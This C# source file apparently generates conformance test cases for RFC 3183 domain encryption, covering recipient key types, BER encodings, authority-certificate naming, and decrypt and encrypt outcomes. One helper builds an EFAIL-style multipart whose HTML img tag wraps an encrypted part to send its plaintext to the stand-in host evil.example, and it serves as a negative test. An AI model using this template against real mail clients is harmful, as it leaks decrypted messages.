using DomSec.Corpus.Asn1;
using DomSec.Corpus.Cms;
using DomSec.Corpus.Messages;
using DomSec.Corpus.Pki;
using static DomSec.Corpus.Asn1.Oids;

namespace DomSec.Corpus.Cases;

/// <summary>A.8 to A.10: domain encryption (RFC 3183 section 4).</summary>
internal static class EncryptionCases
{
    private const string Acme = "acme.example";

    public static void Add(CaseList list)
    {
        World world = list.World;
        Received(list, world);
        Recipients(list, world);
        Failures(list, world);
        Authorities(list, world);
        Decrypted(list, world);
        Encrypted(list, world);
    }

    private static Message DomainSigned(World world) => Message.Text().Null().Signed(world.AcmeSigner, DomainSig);

    private static void Received(CaseList list, World world)
    {
        Message domain = DomainSigned(world);
        Message author = Message.Text().ClearSigned(world.Alice);
        list.Classify("crypt-case-d", "DS-CRY-04 DS-CRY-06 DS-CRY-07 DS-KEY-08", "Domain to domain: signed, then encrypted to our authority.", domain.Encrypted(world.PartnerDca)).Pass(Acme);
        list.Classify("crypt-case-b", "DS-CRY-03 DS-CRY-05 DS-CRY-10 DS-SEC-04", "User to domain: an author's signature alone inside.", author.Encrypted(world.PartnerDca)).Pass(null, "alice@acme.example", "F-ENC-WITHOUT-DS");
        list.Classify("crypt-case-c", "DS-CRY-01 DS-CRY-05", "Domain to user: nothing for us to open.", domain.Encrypted(world.Bob, isOurs: false)).Is("none", "F-OPAQUE", "F-ENC-WITHOUT-DS");
        list.Classify("crypt-case-a-in-d", "DS-CRY-05 DS-DSG-09", "User to user inside domain to domain: opened as far as we can.", author.Encrypted(world.Bob, isOurs: false).Null().Signed(world.AcmeSigner, DomainSig).Encrypted(world.PartnerDca)).Pass(Acme, null, "F-OPAQUE");
        list.Classify("crypt-text", "DS-CRY-10 DS-SEC-04", "Encrypted text: anyone could have sent it.", Message.Text().Encrypted(world.PartnerDca)).Is("none", "F-ENC-WITHOUT-DS");
        list.Classify("crypt-null", "DS-CRY-10 DS-ENC-09", "Encrypted text in an empty signature layer is as unsigned.", Message.Text().Null().Encrypted(world.PartnerDca)).Is("none", "F-ENC-WITHOUT-DS", "F-NULL-ONLY");
        list.Classify("crypt-cbc", "DS-CRY-07 SEC-EFL-02", "AES-CBC with a domain signature inside.", domain.Encrypted(envelope => Cbc(envelope).For(world.PartnerDca))).Pass(Acme);
        list.Classify("crypt-cbc-text", "SEC-EFL-02 DS-CRY-10", "AES-CBC with nothing inside that authenticates the text.", Message.Text().Encrypted(envelope => Cbc(envelope).For(world.PartnerDca))).Is("none", "F-ENC-UNAUTHENTICATED", "F-ENC-WITHOUT-DS");
        list.Classify("crypt-twice", "DS-CRY-07 ESS-WRP-04", "Encrypted twice for us.", domain.Encrypted(world.PartnerDca).Encrypted(world.PartnerEcDca)).Pass(Acme);
        list.Classify("crypt-triple-wrapped", "DS-CRY-07 ESS-WRP-02", "Author, domain, encryption, domain.", author.Signed(world.AcmeSigner, DomainSig).Encrypted(world.PartnerDca).Null().Signed(world.AcmeSigner, DomainSig)).Pass(Acme, "alice@acme.example");
        list.Classify("crypt-domain-signature-invalid-inside", "DS-CRY-07 DS-ENC-06", "The domain signature inside does not verify.", Message.Text().Null().Signed(world.AcmeSigner, signer =>
        {
            signer.Types(DomainSig).AltersSignature = true;
            signer.SignatureFact = "invalid";
        }).Encrypted(world.PartnerDca)).Is("fail", "F-SIG-INVALID", "F-ENC-WITHOUT-DS");
        list.Classify("crypt-unmapped-inside", "DS-CRY-07 DS-NAM-12", "The domain signature inside does not cover the sender.", DomainSigned(world).WithFrom("eve@evil.example").Encrypted(world.PartnerDca)).Is("policy", "F-MAP-NOT-ASCENDANT");
    }

    private static void Recipients(CaseList list, World world)
    {
        Message domain = DomainSigned(world);
        foreach (bool cbc in (bool[])[false, true])
        {
            string suffix = cbc ? "-cbc" : "";
            Good("crypt-rsa-oaep" + suffix, "DS-CRY-08", "RSA-OAEP with SHA-256.", envelope => Mode(envelope, cbc).For(world.PartnerDca, oaep: true));
            Good("crypt-rsa-key-identifier" + suffix, "DS-KEY-08 DS-CRY-08", "Our authority named by its key identifier.", envelope => Mode(envelope, cbc).For(world.PartnerDca, byKeyIdentifier: true));
            Good("crypt-ecdh" + suffix, "DS-CRY-08 DS-KEY-08", "ECDH on P-256 (RFC 5753).", envelope => Mode(envelope, cbc).For(world.PartnerEcDca));
            Good("crypt-ecdh-key-identifier" + suffix, "DS-CRY-08 DS-KEY-08", "ECDH, our authority named by its key identifier.", envelope => Mode(envelope, cbc).For(world.PartnerEcDca, byKeyIdentifier: true));
            Good("crypt-x25519" + suffix, "DS-CRY-08", "X25519 (RFC 8418).", envelope => Mode(envelope, cbc).For(world.PartnerX25519Dca));
            Good("crypt-several" + suffix, "DS-CRY-08 DS-CRY-09 DS-CRY-01", "The recipient, the sender's own authority and ours.", envelope => Mode(envelope, cbc).For(world.Bob, isOurs: false).For(world.AcmeDca, isOurs: false).For(world.PartnerEcDca));
            foreach ((string name, Form form) in ((string, Form)[])[("indefinite", Form.Indefinite), ("definite-chunks", Form.DefiniteChunks), ("deep-chunks", Form.DeepChunks), ("indefinite-primitive", Form.IndefinitePrimitive)])
            {
                Good($"crypt-ber-{name}{suffix}", "CMS-BER-01 DS-CRY-04", "Encryption in BER.", envelope =>
                {
                    envelope.Form = form;
                    Mode(envelope, cbc).For(world.PartnerDca);
                });
            }
        }

        void Good(string id, string requirements, string note, Action<EnvelopeSpec> build) => list.Classify(id, requirements, note, domain.Encrypted(build)).Pass(Acme);
    }

    private static void Failures(CaseList list, World world)
    {
        Message domain = DomainSigned(world);
        list.Classify("crypt-without-keys", "DS-CRY-04", "Nobody here has a key.", domain.Encrypted(envelope => envelope.For(world.PartnerDca, isOurs: false))).In("keyless").Is("none", "F-OPAQUE", "F-ENC-WITHOUT-DS").Confidentiality("opaque");
        list.Classify("crypt-altered-gcm", "SEC-EFL-04 CMS-AE-05", "One bit of authenticated ciphertext was flipped: nothing is opened.", domain.Encrypted(envelope =>
        {
            envelope.AltersCiphertext = true;
            envelope.For(world.PartnerDca);
        })).Is("none", "F-OPAQUE", "F-ENC-WITHOUT-DS").Confidentiality("opaque");
        list.Classify("crypt-partial", "SEC-EFL-01", "An encrypted part in a multipart is not opened.", Message.OfEntity(Message.FieldsOf(), Mixed(domain.Encrypted(world.PartnerDca))).As()).Is("none", "F-PARTIAL").Expect("structure", "content").Confidentiality("none");
    }

    private static void Authorities(CaseList list, World world)
    {
        Message domain = DomainSigned(world);
        From("dca-originator-right", "DS-DCA-01 DS-DCA-05", "originatorInfo names acme.example's authority.", world.AcmeDca).Pass(Acme);
        From("dca-originator-other-domain", "DS-DCA-05 DS-DCA-04", "originatorInfo names another domain's authority.", world.EvilDca).Pass(Acme, null, "F-DCA-MAPPING");
        From("dca-originator-misnamed", "DS-DCA-01 DS-DCA-05", "originatorInfo names a certificate of another common name.", Dca("misnamed", shape => shape.Subject = "C=US, O=Acme, CN=encryption")).Pass(Acme, null, "F-DCA-NAME");
        From("dca-originator-two-names", "DS-DCA-01", "originatorInfo names a certificate with two common names (AMB-14).", Dca("two-names", shape => shape.Subject = "C=US, O=Acme, CN=domain-confidentiality-authority, CN=second")).Pass(Acme, null, "F-DCA-NAME");
        From("dca-originator-address", "DS-DCA-02", "originatorInfo names a certificate with a person's address.", Dca("address", shape => shape.Emails[0] = "alice@acme.example")).Pass(Acme, null, "F-DCA-NAME").Allowing("F-DCA-MAPPING");
        From("dca-originator-suffix", "DS-DCA-05 DS-DCA-09", "originatorInfo names the authority of a top-level domain.", Dca("suffix", shape => shape.Emails[0] = "domain-confidentiality-authority@example")).Pass(Acme, null, "F-DCA-MAPPING");
        From("dca-originator-parent", "DS-DCA-03 DS-DCA-04", "originatorInfo names the authority above the sender's domain.", world.AcmeDca, "dora@sales.acme.example").Pass(Acme);
        From("dca-originator-child", "DS-DCA-04 DS-DCA-05", "originatorInfo names the authority of a domain below the sender's.", Dca("child", shape => shape.Emails[0] = "domain-confidentiality-authority@sales.acme.example")).Pass(Acme, null, "F-DCA-MAPPING");
        From("dca-originator-capitals", "DS-DCA-01 DS-DCA-04", "The names in other case.", Dca("capitals", shape =>
        {
            shape.Subject = "C=US, O=Acme, CN=Domain-Confidentiality-Authority";
            shape.Emails[0] = "Domain-Confidentiality-Authority@ACME.example";
        })).Pass(Acme);

        Case From(string id, string requirements, string note, Identity authority, string from = "alice@acme.example") => list.Classify(id, requirements, note, domain.WithFrom(from).Encrypted(envelope =>
        {
            envelope.OriginatorCertificates.Add(authority.Certificate);
            envelope.For(world.PartnerDca);
        }));

        Identity Dca(string name, Action<CertificateShape> change) => DcaOf(world, "originator-dca-" + name, Acme, change);
    }

    private static void Decrypted(CaseList list, World world)
    {
        Message domain = DomainSigned(world);
        Message author = Message.Text().ClearSigned(world.Alice);
        list.Decrypt("decrypt-case-d", "DS-CRY-04 DS-KEY-08 DS-SEC-06", "The domain-signed message comes out as it went in.", domain.Encrypted(world.PartnerDca), "applied", domain.Entity);
        list.Decrypt("decrypt-case-b", "DS-CRY-03 DS-SEC-06", "The author's signature comes out as it went in.", author.Encrypted(world.PartnerDca), "applied", author.Entity);
        list.Decrypt("decrypt-cbc", "DS-CRY-04 SEC-EFL-02", "AES-CBC around a valid signature.", domain.Encrypted(envelope => Cbc(envelope).For(world.PartnerDca)), "applied", domain.Entity);
        list.Decrypt("decrypt-ber", "DS-CRY-04 CMS-BER-01", "AES-CBC in BER.", domain.Encrypted(envelope =>
        {
            envelope.Form = Form.DeepChunks;
            Cbc(envelope).For(world.PartnerEcDca);
        }), "applied", domain.Entity);
        list.Decrypt("decrypt-authenticated-text", "DS-CRY-10 SEC-EFL-02", "Authenticated encryption around unsigned text is released.", Message.Text().Encrypted(world.PartnerDca), "applied", Message.Text().Entity);
        list.Decrypt("decrypt-cbc-text", "SEC-EFL-02", "AES-CBC around unsigned text may have been altered: not released.", Message.Text().Encrypted(envelope => Cbc(envelope).For(world.PartnerDca)), "refused");
        list.Decrypt("decrypt-cbc-altered", "SEC-EFL-02 SEC-ORC-03", "AES-CBC with a flipped bit: the signature inside no longer holds.", domain.Encrypted(envelope =>
        {
            envelope.AltersCiphertext = true;
            Cbc(envelope).For(world.PartnerDca);
        }), "refused");
        list.Decrypt("decrypt-gcm-altered", "SEC-EFL-04 SEC-ORC-03", "Authenticated encryption with a flipped bit.", domain.Encrypted(envelope =>
        {
            envelope.AltersCiphertext = true;
            envelope.For(world.PartnerDca);
        }), "refused");
        list.Decrypt("decrypt-for-another", "DS-CRY-01 SEC-ORC-03", "Encrypted for the recipient alone.", domain.Encrypted(world.Bob), "refused");
        list.Decrypt("decrypt-plain", "DS-CRY-04", "Nothing is encrypted.", domain, "refused");
        list.Decrypt("decrypt-under-invalid-signature", "DS-MLA-11", "A signature around the encryption does not verify.", domain.Encrypted(world.PartnerDca).Signed(world.Carol, signer => signer.AltersSignature = true), "refused");
    }

    private static void Encrypted(CaseList list, World world)
    {
        Message domain = DomainSigned(world);
        Community acme = list.Communities.Find(community => community.Name == "acme")!;
        LayerFact[] inside = [Made.Encrypted, Made.Domain(world), Made.Null];
        Encrypt("encrypt-case-d", "DS-CRY-02 DS-CRY-06 DS-DCA-01 DS-DCA-03 DS-KEY-01 DS-KEY-05", "To partner.example's authority.", "applied", inside).Covering(domain.Entity);
        Encrypt("encrypt-sub-domain", "DS-DCA-03 DS-DCA-04 DS-KEY-03", "For a recipient below the authority's domain.", "applied", inside).Give("request", Request("x@sales.partner.example"));
        Encrypt("encrypt-two-recipients", "DS-CRY-02 DS-DCA-03", "Two recipients under one authority.", "applied", inside).Give("request", Request("bob@partner.example", "x@sales.partner.example"));
        Encrypt("encrypt-non-member", "DS-DCA-03 DS-KEY-03", "No authority is known for the recipient or above it.", "refused").Give("request", Request("bob@nowhere.example"));
        Encrypt("encrypt-sibling", "DS-DCA-03", "An authority below the recipient's domain does not cover it.", "refused").Give("request", Request("bob@example"));
        list.Make("encrypt", "encrypt-unsigned", "DS-SEC-04 DS-CRY-06", "Without a domain signature inside.", Message.Text(), "refused").Give("request", Request("bob@partner.example"));
        Wrong("cn", "DS-DCA-01", "partner.example", shape => shape.Subject = "C=US, O=Partner, CN=encryption");
        Wrong("address", "DS-DCA-02", "partner.example", shape => shape.Emails[0] = "encryption@partner.example");
        Wrong("other-domain", "DS-DCA-03 DS-KEY-04", "partner.example", shape => shape.Emails[0] = "domain-confidentiality-authority@other.example");
        Wrong("child-domain", "DS-DCA-04 DS-KEY-04", "partner.example", shape => shape.Emails[0] = "domain-confidentiality-authority@sales.partner.example");
        Wrong("key-usage", "DS-DCA-10", "partner.example", shape => shape.KeyUsage = [0]);
        Wrong("suffix", "DS-DCA-09", "example", shape => shape.Emails[0] = "domain-confidentiality-authority@example");
        Wrong("expired", "DS-KEY-04", "partner.example", shape => shape.NotAfter = SignerSpec.Noon.AddDays(-1));
        Identity ownWrong = DcaOf(world, "own-dca-wrong", Acme, shape => shape.Subject = "C=US, O=Acme, CN=encryption");
        list.Communities.Add(acme with { Name = "acme-own-dca-wrong", Identities = [(Acme, World.DomainSigning, world.AcmeSigner), (Acme, World.Confidentiality, ownWrong)] });
        Encrypt("encrypt-own-authority-misnamed", "DS-DCA-07", "The encrypting authority itself is not named as section 4.1 asks.", "refused").In("acme-own-dca-wrong");

        Case Encrypt(string id, string requirements, string note, string outcome, params IReadOnlyList<LayerFact> result) =>
            list.Make("encrypt", id, requirements, note, domain, outcome, result).Give("request", Request("bob@partner.example"));

        void Wrong(string name, string requirements, string member, Action<CertificateShape> change)
        {
            Identity authority = DcaOf(world, "member-dca-wrong-" + name, "partner.example", change);
            list.Communities.Add(acme with { Name = "acme-member-wrong-" + name, Members = [(member, World.Confidentiality, authority)] });
            Encrypt("encrypt-member-wrong-" + name, requirements + " DS-DCA-06", "The directory has a certificate that must not be encrypted to.", "refused").In("acme-member-wrong-" + name);
        }
    }

    private static SortedDictionary<string, object> Request(params string[] recipients) => new(StringComparer.Ordinal) { ["allowUnsigned"] = false, ["domain"] = Acme, ["recipients"] = recipients };

    private static Identity DcaOf(World world, string name, string domain, Action<CertificateShape> change)
    {
        CertificateShape shape = World.EncryptionShape(domain, domain == Acme ? "Acme" : "Partner", agreement: false);
        change(shape);
        return world.Issue(name, shape, key: "evil-dca");
    }

    private static EnvelopeSpec Cbc(EnvelopeSpec envelope) => Mode(envelope, cbc: true);

    private static EnvelopeSpec Mode(EnvelopeSpec envelope, bool cbc)
    {
        envelope.IsAuthenticated = !cbc;
        return envelope;
    }

    private static string Mixed(Message part) =>
        "Content-Type: multipart/mixed; boundary=\"mix\"\r\n\r\n--mix\r\nContent-Type: text/html\r\n\r\n<img src=\"http://evil.example/?\r\n--mix\r\n" + System.Text.Encoding.Latin1.GetString(part.Entity) + "\r\n--mix\r\nContent-Type: text/html\r\n\r\n\">\r\n--mix--\r\n";
}
